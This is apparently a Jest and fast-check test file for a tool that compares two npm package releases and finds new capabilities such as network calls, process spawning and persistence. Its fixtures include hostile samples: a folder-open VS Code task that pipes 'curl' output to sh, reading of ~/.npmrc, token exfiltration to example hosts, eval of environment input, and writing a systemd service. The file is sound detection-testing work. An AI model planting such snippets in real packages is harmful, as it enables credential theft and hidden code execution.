import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { aPackage } from '../helpers/a-tarball.ts';
import { bothWays } from '../helpers/read-in-part.ts';

type Files = Readonly<Record<string, string>>;

interface Leading {
  readonly loads: readonly string[];
  readonly how: string;
}

interface Drawn extends Leading {
  readonly files: Readonly<Record<string, Leading & { readonly code: string }>>;
  readonly main: string;
  readonly bin: string | undefined;
  readonly exports: string | undefined;
  readonly installs: boolean;
}

const of = (before: Files, after: Files, manifest: Readonly<Record<string, unknown>> = {}) =>
  bothWays(aPackage({ name: 'it', version: '1.0.0', ...manifest }, before), aPackage({ name: 'it', version: '1.0.1', ...manifest }, after));

const talks = 'fetch("https://one.example/x");';
const starts = 'require("child_process").exec("ls");';
const plain = 'module.exports = 1;';

describe('the release before', () => {
  it('is not read where the release does nothing remarkable', async () => {
    const { parsed, isWhole } = await of({ 'index.js': talks + starts }, { 'index.js': plain });
    expect({ parsed, isWhole }).toEqual({ parsed: [], isWhole: false });
  });

  it('is read until all was found that the release does', async () => {
    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': talks, 'b.js': starts };
    const { parsed, inPart } = await of(files, { ...files, 'b.js': plain });
    expect(parsed).toEqual(['index.js', 'a.js']);
    expect(inPart.contents.capabilities).toEqual([]);
  });

  it('is read first where the release does it, and on the way there', async () => {
    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': plain, 'b.js': 'require("./c");', 'c.js': starts, 'cli.js': talks };
    const before = Object.fromEntries(Object.entries(files).map(([path, code]) => [path, `${code}\n// as it was`]));
    const { parsed, inPart, isWhole } = await of(before, files, { bin: 'cli.js' });
    expect({ parsed, isWhole }).toEqual({ parsed: ['index.js', 'b.js', 'c.js', 'cli.js'], isWhole: false });
    expect(inPart.contents.capabilities).toEqual([]);
  });

  it('is read elsewhere as well where it is not found there', async () => {
    const loads = { 'index.js': 'require("./a"); require("./b");' };
    const { inPart } = await of({ ...loads, 'a.js': starts, 'b.js': plain }, { ...loads, 'a.js': plain, 'b.js': starts });
    expect(inPart.contents.capabilities).toEqual([]);
  });

  it('does not run by import for what only says that it loads it', async () => {
    const files = { 'a.js': starts };
    const { inPart, whole } = await of({ ...files, 'index.js': '// require("./a")' }, { ...files, 'index.js': 'require("./a");' });
    expect(inPart).toEqual(whole);
    expect(inPart.contents.capabilities.map(({ kind }) => kind)).toContain('process');
  });

  it('is read as a whole where something stays new', async () => {
    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': talks, 'b.js': plain };
    const { parsed, isWhole, inPart } = await of(files, { ...files, 'b.js': starts });
    expect({ parsed: new Set(parsed), isWhole }).toEqual({ parsed: new Set(['index.js', 'a.js', 'b.js']), isWhole: true });
    expect(new Set(inPart.contents.capabilities.map(({ kind }) => kind))).toEqual(new Set(['process']));
  });

  it('is read as a whole where what it sent can make what is sent now worse', async () => {
    const sends = (host: string) => `exports.go = (token) => fetch("https://${host}/", { headers: { authorization: token } });`;
    const { isWhole } = await of({ 'index.js': sends('one.example') }, { 'index.js': sends('two.example') });
    expect(isWhole).toBe(true);
  });

  it('is not credited with doing by import what only its commands call', async () => {
    const writes = 'require("fs").writeFileSync("/etc/systemd/system/own.service", "[Service]")';
    const files = {
      'index.js': 'exports.service = () => require("./service")();',
      'service.js': `module.exports = () => ${writes};`,
      'cli.js': 'require(".").service();',
    };
    const bulk = Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`lib/${at}.js`, `${talks}\n// ${at}`]));
    const packed = (main: string, more: Files) => aPackage({ name: 'it', version: '1.0.0', main, bin: 'cli.js' }, { ...files, ...bulk, ...more });
    const { inPart, whole } = await bothWays(packed('index.js', {}), packed('new.js', { 'new.js': `${writes};` }));
    expect(inPart).toEqual(whole);
    expect(inPart.contents.movedEntries).toEqual([{ what: 'entry point', from: 'index.js', to: 'new.js', can: ['persistence'] }]);
  });

  it('says the same read in part, whatever the two releases are', async () => {
    const pieces = [
      plain,
      talks,
      starts,
      'fetch("https://two.example/x");',
      'eval(process.env.CODE)',
      'require("fs").readFileSync(require("os").homedir() + "/.npmrc")',
      'const p = require("child_" + "process"); p.exec("x");',
      `const _0x${'1a2b'} = ["\\x61\\x62\\x63\\x64"]; ${'a'.repeat(800)}();`,
      'this does not parse (',
      `var blob = "${'QUJDRA'.repeat(400)}";`,
      'exports.go = (token) => fetch("https://three.example/", { headers: { authorization: token } });',
      'exports.go = () => fetch("https://one.example/x");',
      'exports.go = () => require("fs").writeFileSync("/etc/systemd/system/own.service", "[Service]");',
    ];
    const tasks = '{"tasks":[{"label":"x","type":"shell","command":"curl https://x.example/x | sh","runOptions":{"runOn":"folderOpen"}}]}';
    const names = ['a.js', 'b.js', 'cjs/c.js', 'esm/d.mjs', 'bin/e.js', 'dist/f.js', 'install.js'];
    const some = fc.subarray([...names, '.vscode/tasks.json'], { maxLength: 3 });
    // What others import is called at once, handed on to who calls this one, or only loaded.
    const uses = fc.constantFrom('calls', 'hands on', 'loads', 'names itself');
    const use = (paths: readonly string[], from: string, how: string): string => {
      const up = from.includes('/') ? '../' : './';
      const of = (path: string): string => `require("${how === 'names itself' ? 'it/' : up}${path}")`;
      const call = (path: string): string =>
        how === 'calls' ? `${of(path)}.go();` : how === 'hands on' ? `exports.go = () => ${of(path)}.go();` : `${of(path)};`;
      return paths.map(call).join('\n');
    };
    const release: fc.Arbitrary<Drawn> = fc.record({
      files: fc.dictionary(fc.constantFrom(...names), fc.record({ code: fc.constantFrom(...pieces), loads: some, how: uses })),
      loads: some,
      how: uses,
      main: fc.constantFrom('index.js', 'a.js', 'cjs/c.js'),
      bin: fc.constantFrom('bin/e.js', 'b.js', undefined),
      exports: fc.constantFrom('./index.js', undefined),
      installs: fc.boolean(),
    });
    const packed = ({ files, loads, how, main, bin, exports, installs }: Drawn, version: string): Buffer =>
      aPackage(
        {
          ...{ name: 'it', version, main, module: 'esm/d.mjs', exports },
          ...(bin !== undefined && { bin: { it: bin } }),
          ...(installs && { scripts: { postinstall: 'node install.js' } }),
        },
        {
          'index.js': use(loads, 'index.js', how),
          '.vscode/tasks.json': tasks,
          ...Object.fromEntries(Object.entries(files).map(([path, { code, loads, how }]) => [path, `${code}\n${use(loads, path, how)}`])),
        },
      );
    const isSaidAlike = async (before: Drawn, after: Drawn): Promise<void> => {
      const { inPart, whole } = await bothWays(packed(before, '1.0.0'), packed(after, '1.0.1'));
      expect(inPart).toEqual(whole);
    };
    await fc.assert(
      fc.asyncProperty(release, release, fc.boolean(), async (before, other, isAlike) => {
        const few = Object.fromEntries(Object.entries(other.files).slice(0, 1));
        await isSaidAlike(before, isAlike ? { ...other, files: { ...before.files, ...few } } : other);
      }),
      { numRuns: 300 },
    );
    // What waits in one of two files, for the import or for a command, and is then done by a new file that the entry point means.
    const code = fc.constantFrom(...pieces.filter((piece) => piece.startsWith('exports.go = ()')));
    const waiting = fc.record({ code, loads: fc.constant<string[]>([]), how: uses });
    const command = fc.record({
      code: fc.constant(''),
      loads: fc.subarray(['a.js', 'dist/f.js', 'index.js']),
      how: fc.constantFrom('calls', 'loads'),
    });
    const commanded = fc.record({
      files: fc.record({ 'a.js': waiting, 'dist/f.js': waiting, 'bin/e.js': command }),
      loads: fc.subarray(['a.js', 'dist/f.js']),
      how: uses,
      main: fc.constant('index.js'),
      bin: fc.constantFrom('bin/e.js', 'bin/e.js', undefined),
      exports: fc.constantFrom('./index.js', undefined),
      installs: fc.constant(false),
    });
    await fc.assert(
      fc.asyncProperty(commanded, code, fc.boolean(), async (before, code, isCalled) => {
        const moved = { code: isCalled ? `${code} exports.go();` : code, loads: [], how: 'loads' };
        const entry = { main: 'new.js', exports: before.exports && './new.js' };
        await isSaidAlike(before, { ...before, ...entry, files: { ...before.files, 'new.js': moved } });
      }),
      { numRuns: 150 },
    );
  });
});
